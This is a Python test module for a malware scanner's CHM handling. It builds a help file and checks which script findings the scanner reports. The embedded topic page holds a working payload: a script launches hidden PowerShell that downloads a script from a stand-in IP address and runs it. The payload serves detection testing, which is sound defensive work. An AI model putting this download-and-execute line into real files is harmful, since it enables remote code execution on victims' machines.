"""chm.py - the CHM cases of tests/officecrypt/run.py (imported by it, not run alone).

A help file is compiled at test time with Free Pascal's chmcmd (Debian fp-utils) from a
topic page whose script starts a hidden PowerShell through WScript.Shell; libclamav 1.4
unpacks nothing from chmcmd's output (its header GUID is written wrong), so every finding
below comes from scan/chm.c (libmspack). ClamAV's clam.chm (corpus; skipped when absent)
shows that members libclamav already gave are not scanned twice.
"""
import os, shutil, subprocess

TOPIC = b"""<html><head><title>Help</title></head><body><h1>Invoice help</h1>
<script>var s = new ActiveXObject("WScript.Shell");
s.Run("powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')");
</script></body></html>
"""
PROJECT = b"""[OPTIONS]
Compatibility=1.1 or later
Compiled file=help.chm
Default topic=index.htm
Language=0x409 English (United States)
Title=Help

[FILES]
index.htm
"""


def build_chm(tmp):
    """help.chm compiled by chmcmd, or None when chmcmd is not installed"""
    if shutil.which("chmcmd") is None:
        return None
    d = os.path.join(tmp, "chm")
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "index.htm"), "wb") as f:
        f.write(TOPIC)
    with open(os.path.join(d, "help.hhp"), "wb") as f:
        f.write(PROJECT)
    p = subprocess.run(["chmcmd", "help.hhp"], cwd=d, capture_output=True, timeout=120)
    out = os.path.join(d, "help.chm")
    return open(out, "rb").read() if p.returncode == 0 and os.path.exists(out) else None


def run(E, conf, tmp):
    data = build_chm(tmp)
    if data is None:
        E.skip("chm (chmcmd)", "chmcmd not installed (Debian fp-utils)")
    else:
        rep = E.scan(conf, tmp, E.attach("help.chm", data))
        loc = "2/help.chm>index.htm"
        layers = [l["location"] for l in (rep or {}).get("layers", [])]
        E.check("chm: member layer named 2/help.chm>index.htm", loc in layers, layers)
        E.check("chm: the member's type is html",
                any(l["location"] == loc and l["detected"] == "html" for l in rep["layers"]))
        sym = {h["symbol"] for h in (rep or {}).get("hits", []) if h["location"] == loc}
        E.check("chm: script finding at the member (SCRIPT_COM_SHELL)", "SCRIPT_COM_SHELL" in sym, sym)
        E.check("chm: download-and-run found (SCRIPT_DOWNLOAD_EXEC)", "SCRIPT_DOWNLOAD_EXEC" in sym, sym)
        E.check("chm: internal #/$ files are not layers",
                not any(l.startswith("2/help.chm>#") or l.startswith("2/help.chm>$") for l in layers), layers)
        broken = bytearray(data)
        broken[0x60:0x80] = b"\xff" * 32  # header section 0 and the directory header
        rep = E.scan(conf, tmp, E.attach("help.chm", bytes(broken)))
        E.check("broken chm: LIMIT_CHM_NOT_OPENED", E.hits(rep, "LIMIT_CHM_NOT_OPENED"), rep and rep["hits"])
    clam = os.path.join(E.CORPUS, "clamav-testfiles/files/clam.chm")
    if not os.path.exists(clam):
        return E.skip("clam.chm", "corpus not found")
    rep = E.scan(conf, tmp, E.attach("clam.chm", open(clam, "rb").read()))
    sig = E.hits(rep, "CLAMAV_ClamAV-Test-File")
    E.check("clam.chm: the test file found once (no second copy by libmspack)", len(sig) == 1,
            [h["location"] for h in sig])
    E.check("clam.chm: its other members are layers by name",
            any(l["location"].endswith("clam.chm.hhc") for l in rep.get("layers", [])))
